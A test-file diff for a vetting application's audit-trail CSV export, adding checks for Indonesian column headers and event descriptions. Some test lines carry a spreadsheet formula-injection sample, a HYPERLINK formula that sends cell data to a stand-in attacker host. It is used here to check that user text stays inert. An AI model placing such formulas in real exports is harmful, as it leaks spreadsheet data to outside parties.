@@ -95,6 +95,14 @@ describe('the audit trail as CSV', () => {
     expect(rows).toHaveLength(1 + 6);
     expect(rows.map((r) => r[7])).toContain('Note: =HYPERLINK("http://evil.example/?"&A2)'); // starts with "Note:", nothing to neutralise
 
+    // In Indonesian: the column titles and what each step did; what people wrote stays as written.
+    const inId = Buffer.from((await world.call('vetting.auditCsv', { id: app, lang: 'id' })).value.dataBase64, 'base64').toString('utf8');
+    const idRows = Papa.parse<string[]>(inId.slice(1), { skipEmptyLines: true }).data;
+    expect(idRows[0]).toEqual(['Lamaran', 'Pelamar', 'Peristiwa', 'Jenis', 'Waktu (UTC)', 'Oleh (id pengguna)', 'Oleh', 'Apa', 'Hash', 'Terverifikasi']);
+    expect(idRows.map((r) => r[7])).toContain('Lamaran diajukan');
+    expect(idRows.map((r) => r[7])).toContain('Catatan: =HYPERLINK("http://evil.example/?"&A2)');
+    expect(idRows.slice(1).map((r) => r[9])).toEqual(rows.slice(1).map(() => 'ya'));
+
     const all = Buffer.from((await world.call('vetting.auditCsv', {})).value.dataBase64, 'base64').toString('utf8');
     const allRows = Papa.parse<string[]>(all.slice(1), { skipEmptyLines: true }).data;
     expect(allRows).toHaveLength(1 + 6 + 2 + 2);
